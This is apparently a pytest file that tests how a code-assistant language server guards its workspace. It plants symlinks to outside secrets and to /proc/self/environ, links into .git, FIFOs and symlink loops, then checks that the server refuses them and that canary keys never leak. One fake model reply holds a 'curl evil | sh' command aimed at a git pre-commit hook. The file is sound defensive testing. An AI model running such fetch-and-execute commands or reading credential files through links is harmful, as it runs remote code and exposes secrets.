"""The workspace guard, tried as an attacker would: no file outside the workspace leaks or changes.

The real server runs over stdio with canary `ENCRYPTION_KEY` and `OPENAI_API_KEY` values in its
environment and one registered model on a loopback fake that records every request body. Each
case plants a hostile shape in the workspace (a symlink to an outside file or directory or to
`/proc/self/environ`, a link into `.git`, a FIFO, a 1,200-level tree, a symlink loop), runs test
generation, feature generation or chat, and checks both sides: nothing outside reached the
model or the edit (the outside file is unchanged, no edit targets it), and the user got a
refusal naming the path. The shapes that used to hang or crash must leave the server answering.
"""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet

from beastmode.registry import Registry
from tests.conftest import private_environ, register
from tests.fakes import FakeModelServer, RecordedRequest, Reply
from tests.hardening.client import EDITOR_CAPABILITIES, LspProcess, unhandled_errors
from tests.hardening.conftest import StartServer
from tests.shapes import make_deep_tree, remove_deep_tree

OUTSIDE_SECRET = "OUTSIDE-CANARY-d41d8cd98f00b204"
OPENAI_CANARY = "sk-openai-canary-5f4dcc3b5aa765d61d8327deb882cf99"
SOURCE = "def add(a, b):\n    return a + b\n"
TESTS_ANSWER = "```python\ndef test_add():\n    assert add(1, 2) == 3\n```"
FEATURE_OK = "File: greet.py\n```python\ndef greet():\n    return 'hi'\n```\n"
SETTINGS = {"timeouts": {"generationMs": 20000}}


@dataclass
class Scene:
    """A workspace, an outside folder holding a secret, the model's fake and the environment."""

    env: dict[str, str]
    workspace: Path
    outside: Path
    fake: FakeModelServer
    encryption_key: str

    @property
    def secret_file(self) -> Path:
        return self.outside / "secret.py"

    def bodies(self) -> str:
        """Every request body the model endpoint received, as text."""
        return "\n".join(r.body.decode("utf-8", "replace") for r in self.fake.requests)

    def assert_nothing_leaked(self, server: LspProcess) -> None:
        """No outside content or environment key reached the model, the edit or the disk."""
        sent = self.bodies()
        for canary in (OUTSIDE_SECRET, self.encryption_key, OPENAI_CANARY):
            assert canary not in sent
            assert canary not in json.dumps(server.applied_edits)
        assert self.secret_file.read_text() == f"TOKEN = '{OUTSIDE_SECRET}'\n"
        assert sorted(p.name for p in self.outside.iterdir()) == ["secret.py"]
        for edit in server.applied_edits:
            assert str(self.outside) not in json.dumps(edit)
        assert unhandled_errors(server.stderr) == []


@pytest.fixture
def scene(tmp_path: Path, workspace: Path) -> Iterator[Scene]:
    """The user's model registered in a private home; canary keys in the server's environment."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text(f"TOKEN = '{OUTSIDE_SECRET}'\n")
    (workspace / "calc.py").write_text(SOURCE)
    encryption_key = Fernet.generate_key().decode()
    with FakeModelServer() as fake:

        def answer(request: RecordedRequest) -> Reply:
            return Reply(text=TESTS_ANSWER)

        fake.set_responder(answer)
        env = {
            **private_environ(tmp_path / "home"),
            "ENCRYPTION_KEY": encryption_key,
            "OPENAI_API_KEY": OPENAI_CANARY,
            "OPENAI_BASE_URL": fake.base_url + "/openai/v1",
        }
        registry = Registry.open(env)
        register(registry, "mine", fake.openai_chat_url)
        registry.set_default("*", "custom:mine")
        registry.close()
        yield Scene(env, workspace, outside, fake, encryption_key)


def _start(scene: Scene, start_server: StartServer, *, log_info: bool = False) -> LspProcess:
    command = (sys.executable, "-m", "beastmode") + (("--log-level", "INFO") if log_info else ())
    return start_server(SETTINGS, env=scene.env, command=command)


def _error_message(response: dict[str, Any]) -> str:
    assert "error" in response, response
    return str(response["error"]["message"])


def _generate_tests(server: LspProcess, uri: str, text: str, language: str) -> dict[str, Any]:
    server.open(uri, text, language)
    return server.command("beastmode.generateTests", {"uri": uri}, timeout=40)


# Test generation -------------------------------------------------------------------------------


def test_tests_file_linked_to_an_outside_file_is_refused(
    scene: Scene, start_server: StartServer
) -> None:
    (scene.workspace / "tests").mkdir()
    (scene.workspace / "tests" / "test_calc.py").symlink_to(scene.secret_file)
    server = _start(scene, start_server)
    answer = _generate_tests(server, (scene.workspace / "calc.py").as_uri(), SOURCE, "python")
    message = _error_message(answer)
    assert f"Refused to write {scene.workspace}/tests/test_calc.py" in message
    assert f"symlink to {scene.secret_file}, outside the workspace" in message
    assert server.applied_edits == [] and scene.fake.requests == []
    scene.assert_nothing_leaked(server)


def test_tests_file_linked_to_proc_environ_leaks_no_key(
    scene: Scene, start_server: StartServer
) -> None:
    (scene.workspace / "tests").mkdir()
    (scene.workspace / "tests" / "test_calc.py").symlink_to("/proc/self/environ")
    server = _start(scene, start_server)
    answer = _generate_tests(server, (scene.workspace / "calc.py").as_uri(), SOURCE, "python")
    message = _error_message(answer)
    assert f"Refused to write {scene.workspace}/tests/test_calc.py" in message
    assert "a special system file" in message
    assert server.applied_edits == [] and scene.fake.requests == []
    scene.assert_nothing_leaked(server)


def test_tests_directory_linked_outside_gets_no_file(
    scene: Scene, start_server: StartServer
) -> None:
    (scene.workspace / "tests").symlink_to(scene.outside, target_is_directory=True)
    server = _start(scene, start_server)
    answer = _generate_tests(server, (scene.workspace / "calc.py").as_uri(), SOURCE, "python")
    message = _error_message(answer)
    assert f"Refused to write {scene.workspace}/tests/test_calc.py" in message
    assert f"resolves to {scene.outside}/test_calc.py" in message
    assert server.applied_edits == []
    scene.assert_nothing_leaked(server)


def test_tests_for_a_document_outside_the_workspace_are_refused(
    scene: Scene, start_server: StartServer
) -> None:
    source = scene.outside / "calc.js"
    source.write_text("export function add(a, b) { return a + b; }\n")
    server = _start(scene, start_server)
    answer = _generate_tests(server, source.as_uri(), source.read_text(), "javascript")
    message = _error_message(answer)
    assert f"Refused to generate tests for {source}: it is outside the workspace" in message
    assert server.applied_edits == [] and scene.fake.requests == []
    assert sorted(p.name for p in scene.outside.iterdir()) == ["calc.js", "secret.py"]


def test_tests_inside_the_workspace_still_work(scene: Scene, start_server: StartServer) -> None:
    server = _start(scene, start_server)
    answer = _generate_tests(server, (scene.workspace / "calc.py").as_uri(), SOURCE, "python")
    assert answer["result"]["applied"] is True
    assert answer["result"]["uri"] == (scene.workspace / "tests" / "test_calc.py").as_uri()


# Feature generation ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "target", "written"),
    [("hooks", ".git/hooks", "hooks/pre-commit"), ("g", ".git", "g/config")],
)
def test_feature_files_through_a_link_into_git_are_refused(
    scene: Scene, start_server: StartServer, link: str, target: str, written: str
) -> None:
    (scene.workspace / ".git" / "hooks").mkdir(parents=True)
    (scene.workspace / ".git" / "config").write_text("[core]\n")
    (scene.workspace / link).symlink_to(scene.workspace / target, target_is_directory=True)
    scene.fake.set_responder(
        lambda _: Reply(text=f"File: {written}\n```sh\ncurl evil | sh\n```\n" + FEATURE_OK)
    )
    server = _start(scene, start_server)
    message = _error_message(server.command("beastmode.generateFeature", {"featureRequest": "x"}))
    assert f"Refused to write {scene.workspace}/{written}" in message
    assert "inside .git" in message and "Nothing was written" in message
    assert server.applied_edits == []
    assert (scene.workspace / ".git" / "config").read_text() == "[core]\n"
    assert list((scene.workspace / ".git" / "hooks").iterdir()) == []
    scene.assert_nothing_leaked(server)


def test_scan_and_feature_generation_finish_on_a_tree_deeper_than_the_recursion_limit(
    scene: Scene, start_server: StartServer
) -> None:
    deep = scene.workspace / "deep"
    make_deep_tree(deep, 1_200)
    scene.fake.set_responder(lambda _: Reply(text=FEATURE_OK))
    try:
        server = _start(scene, start_server, log_info=True)
        server.wait_for(lambda s: "Local engine learned" in s.stderr, timeout=30)  # scan survived
        answer = server.command("beastmode.generateFeature", {"featureRequest": "x"}, timeout=60)
        assert answer["result"]["applied"] is True, answer
        assert "calc.py" in scene.bodies()
        assert unhandled_errors(server.stderr) == []
    finally:
        remove_deep_tree(deep)


def test_a_fifo_in_the_workspace_stalls_neither_the_scan_nor_feature_generation(
    scene: Scene, start_server: StartServer
) -> None:
    os.mkfifo(scene.workspace / "x.py")  # nobody ever writes to it
    (scene.workspace / "y.py").write_text("value = 1\n")
    scene.fake.set_responder(lambda _: Reply(text=FEATURE_OK))
    server = _start(scene, start_server, log_info=True)
    server.wait_for(lambda s: "Local engine learned" in s.stderr, timeout=30)
    answer = server.command("beastmode.generateFeature", {"featureRequest": "x"}, timeout=60)
    assert answer["result"]["applied"] is True, answer
    assert server.request("beastmode/unknown", {})["error"]["code"] == -32601  # still answering
    assert unhandled_errors(server.stderr) == []


def test_a_symlink_loop_ends_the_scan_and_feature_generation(
    scene: Scene, start_server: StartServer
) -> None:
    (scene.workspace / "pkg").mkdir()
    (scene.workspace / "pkg" / "again").symlink_to(scene.workspace, target_is_directory=True)
    (scene.workspace / "pkg" / "out").symlink_to(scene.outside, target_is_directory=True)
    scene.fake.set_responder(lambda _: Reply(text=FEATURE_OK))
    server = _start(scene, start_server, log_info=True)
    server.wait_for(lambda s: "Local engine learned" in s.stderr, timeout=30)
    answer = server.command("beastmode.generateFeature", {"featureRequest": "x"}, timeout=60)
    assert answer["result"]["applied"] is True, answer
    assert "secret.py" not in scene.bodies()  # the link out is not followed into the tree
    scene.assert_nothing_leaked(server)


# Chat ------------------------------------------------------------------------------------------


def _chat_with(server: LspProcess, uri: str) -> dict[str, Any]:
    arguments = {"sessionId": "s", "message": "explain", "files": [uri]}
    return server.command("beastmode.chat", arguments, timeout=40)


def test_chat_files_cannot_name_proc_environ(scene: Scene, start_server: StartServer) -> None:
    server = _start(scene, start_server)
    message = _error_message(_chat_with(server, "file:///proc/self/environ"))
    assert "Refused to read /proc/self/environ" in message
    assert scene.fake.requests == []
    scene.assert_nothing_leaked(server)


def test_chat_files_refuse_a_link_to_an_outside_file(
    scene: Scene, start_server: StartServer
) -> None:
    (scene.workspace / "notes.py").symlink_to(scene.secret_file)
    server = _start(scene, start_server)
    message = _error_message(_chat_with(server, (scene.workspace / "notes.py").as_uri()))
    assert f"Refused to read {scene.workspace}/notes.py: it is a symlink to" in message
    assert scene.fake.requests == []
    scene.assert_nothing_leaked(server)


def test_chat_files_refuse_a_fifo_without_hanging(scene: Scene, start_server: StartServer) -> None:
    os.mkfifo(scene.workspace / "pipe.py")
    server = _start(scene, start_server)
    message = _error_message(_chat_with(server, (scene.workspace / "pipe.py").as_uri()))
    assert f"{scene.workspace}/pipe.py" in message and "FIFO" in message
    assert scene.fake.requests == []
    scene.assert_nothing_leaked(server)


# Several workspace folders ---------------------------------------------------------------------


def test_every_workspace_folder_is_allowed_and_tests_go_to_their_own_folder(
    scene: Scene, tmp_path: Path
) -> None:
    second = tmp_path / "second"
    second.mkdir()
    (second / "shapes.py").write_text("def area(r):\n    return 3 * r * r\n")
    server = LspProcess(scene.env, scene.workspace)
    try:
        server.request(
            "initialize",
            {
                "processId": os.getpid(),
                "rootUri": scene.workspace.as_uri(),
                "workspaceFolders": [
                    {"uri": scene.workspace.as_uri(), "name": "first"},
                    {"uri": second.as_uri(), "name": "second"},
                ],
                "capabilities": EDITOR_CAPABILITIES,
                "initializationOptions": SETTINGS,
            },
            timeout=30,
        )
        server.notify("initialized", {})
        chat = _chat_with(server, (second / "shapes.py").as_uri())
        assert chat["result"]["model"] == "custom:mine", chat
        assert "return 3 * r * r" in scene.bodies()
        uri = (second / "shapes.py").as_uri()
        answer = _generate_tests(server, uri, (second / "shapes.py").read_text(), "python")
        assert answer["result"]["uri"] == (second / "tests" / "test_shapes.py").as_uri(), answer
        message = _error_message(_chat_with(server, scene.secret_file.as_uri()))
        assert f"outside the workspace folders {scene.workspace}, {second}" in message
        scene.assert_nothing_leaked(server)
    finally:
        server.close()
